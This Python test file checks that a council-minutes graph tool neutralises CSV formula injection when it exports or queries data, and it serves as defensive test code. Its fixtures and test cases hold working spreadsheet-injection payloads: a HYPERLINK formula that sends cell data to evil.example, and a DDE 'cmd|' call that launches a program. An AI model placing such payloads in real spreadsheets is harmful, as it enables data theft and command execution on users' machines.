"""CSV as every command writes it: what a spreadsheet would run is text, and other tools read it."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from zipfile import ZipFile

import pandas as pd
import pytest

from councilgraph.graph import Graph
from councilgraph.graph.cli import main
from councilgraph.graph.show.csv_cells import Style, as_csv, neutralised

FORMULAS = """HOLLOWMERE TOWN COUNCIL

Minutes of the Meeting of Hollowmere Town Council held on Tuesday 14 May 2024 at 7.00 pm in the Guildhall

Present: Councillors A Penrose (Chair), R Quill

1. Formulas
RESOLVED:
(a) =HYPERLINK("http://evil.example/?x="&A1,"Click") be noted;
(b) -2+3+cmd|' /C calc'!A0 be noted;
(c) @SUM(1+1) be approved;
(d) +44 1234 567890 be the telephone number of the Clerk.
"""
CELLS = """SELECT ?cell { VALUES ?cell { "=1+1" "-12.50" -5 "+SUM(A1)" "@x" "plain, with a comma" "\\t=1" "Ärger" } }"""


@pytest.mark.parametrize(
    ("cell", "written", "why"),
    [
        ("=1+1", "'=1+1", "a formula"),
        ("+SUM(A1)", "'+SUM(A1)", "a formula in the way of an older program"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0", "a call of another program"),
        ("@SUM(1+1)", "'@SUM(1+1)", "a function"),
        ("\t=1", "'\t=1", "a tab that is not looked at"),
        ("\r=1", "'\r=1", "a return that is not looked at"),
        ("\n=1", "'\n=1", "a line end that is not looked at"),
        ("\uff1d1+1", "'\uff1d1+1", "a wide sign, which is taken for the narrow one"),
        ("- to note the report", "'- to note the report", "a dash of a list"),
        ("+44 1234 567890", "'+44 1234 567890", "a telephone number would be a sum"),
        ("-", "'-", "a dash alone"),
        ("-5", "-5", "a number is of use as it is"),
        ("-1,250.50", "-1,250.50", "with marks between its digits too"),
        ("+3.5e-7", "+3.5e-7", "and in the way of science"),
        ("-2.5%", "-2.5%", "and of a hundred"),
        ("2024-05-14", "2024-05-14", "a date"),
        ("a=1", "a=1", "a sign within"),
        ("", "", "nothing"),
    ],
)
def test_what_would_be_run_is_text(cell: str, written: str, why: str) -> None:
    """What begins as a formula has an apostrophe before it; a number stays a number."""
    assert neutralised(cell) == written, why
    assert [*csv.reader(io.StringIO(as_csv([[cell]], Style()), newline=""))] == [[written]], why
    assert [*csv.reader(io.StringIO(as_csv([[cell]], Style(raw=True)), newline=""))] == [[cell]], why


def test_the_form_is_that_of_other_tools() -> None:
    """Lines end in a line feed, the last one too; pandas writes the same rows as the same bytes, and reads them."""
    rows = [["name", "said"], ["Ärger", 'a "word", and\nmore'], ["", "-5"]]
    written = as_csv(rows, Style())
    assert written == pd.DataFrame(rows[1:], columns=rows[0]).to_csv(index=False)
    assert as_csv(rows, Style(excel=True)) == "\ufeff" + written
    assert [*pd.read_csv(io.StringIO(written), keep_default_na=False).columns] == rows[0]


@pytest.fixture(scope="module")
def graph(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The graph of minutes whose clauses begin as formulas do."""
    folder = tmp_path_factory.mktemp("formulas")
    (folder / "minutes.txt").write_text(FORMULAS, encoding="utf-8")
    Graph.build(folder / "minutes.txt", folder / "g")
    return folder / "g"


def starts(data: bytes) -> set[str]:
    """The first characters of all cells that are no numbers."""
    rows = csv.reader(io.StringIO(data.decode(), newline=""))
    return {cell[0] for row in rows for cell in row if cell and not cell.lstrip("+-").isdecimal()}


@pytest.mark.parametrize(("options", "some"), [((), False), (("--raw",), True)])
def test_an_export_runs_nothing(graph: Path, tmp_path: Path, options: tuple[str, ...], some: bool) -> None:
    """No cell of a folder or a ZIP of sheets begins as a formula does, unless raw cells are asked for."""
    assert main(["export", str(graph), "--to", "csv", "-o", str(tmp_path / "csv"), *options]) == 0
    assert main(["export", str(graph), "--to", "csv", "-o", str(tmp_path / "csv.zip"), *options]) == 0
    sheets = {path.name: path.read_bytes() for path in (tmp_path / "csv").iterdir()}
    with ZipFile(tmp_path / "csv.zip") as archive:
        assert {name: archive.read(name) for name in archive.namelist()} == sheets
    assert bool(set("=+-@\t\r") & {start for data in sheets.values() for start in starts(data)}) is some
    assert b"cmd|" in sheets["decisions.csv"]


def asked(
    graph: Path, monkeypatch: pytest.MonkeyPatch, capsysbinary: pytest.CaptureFixture[bytes], *options: str
) -> bytes:
    """What a query of cells of all kinds writes."""
    monkeypatch.setattr("sys.stdin", io.StringIO(CELLS))
    assert main(["query", str(graph), "-", *options]) == 0
    return capsysbinary.readouterr().out


def test_a_query_runs_nothing(
    graph: Path, monkeypatch: pytest.MonkeyPatch, capsysbinary: pytest.CaptureFixture[bytes]
) -> None:
    """The cells of a query are neutralised alike; raw ones and the mark for Excel are asked for."""
    safe = asked(graph, monkeypatch, capsysbinary, "--format", "csv")
    assert safe.decode().split("\n") == [
        *("cell", "'=1+1", "-12.50", "-5", "'+SUM(A1)", "'@x", '"plain, with a comma"', "'\t=1", "Ärger", ""),
    ]
    raw = asked(graph, monkeypatch, capsysbinary, "--format", "csv", "--raw", "--excel")
    assert raw == b"\xef\xbb\xbf" + safe.replace(b"'", b"")


@pytest.mark.parametrize("form", ["csv", "tsv", "json", "xml"])
def test_text_ends_in_a_line_feed(
    graph: Path, monkeypatch: pytest.MonkeyPatch, capsysbinary: pytest.CaptureFixture[bytes], form: str
) -> None:
    """Whatever the format, the last line ends, in one line feed and no return."""
    data = asked(graph, monkeypatch, capsysbinary, "--format", form)
    assert data.endswith(b"\n")
    assert not data.endswith(b"\n\n")
    assert b"\r" not in data


def test_what_is_for_csv_is_for_csv_alone(graph: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """An option of CSV with another format is refused in a line."""
    for command in (
        ["query", str(graph), "chairs", "--raw"],
        ["export", str(graph), "--to", "nq", "--excel"],
    ):
        assert main(command) == 2
        assert "is for CSV" in capsys.readouterr().err


@pytest.mark.parametrize("word", ["excel", "Excel", "xls"])
def test_excel_is_offered_what_it_opens(graph: Path, capsys: pytest.CaptureFixture[str], word: str) -> None:
    """A query in a format called after Excel is refused with that which Excel opens."""
    assert main(["query", str(graph), "chairs", "--format", word]) == 1
    assert (
        capsys.readouterr().err == f"councilgraph: there is no format called “{word}”: try csv with --excel\n"
    )


def test_a_table_in_python_is_written_alike(tmp_path: Path, graph: Path) -> None:
    """`Table.save` writes what the command writes."""
    table = Graph.open(graph).query(CELLS)
    table.save(tmp_path / "safe.csv")
    table.save(tmp_path / "raw.csv", raw=True, excel=True)
    assert (tmp_path / "safe.csv").read_bytes().startswith(b"cell\n'=1+1\n-12.50\n-5\n")
    assert (tmp_path / "raw.csv").read_bytes().startswith(b"\xef\xbb\xbfcell\n=1+1\n")
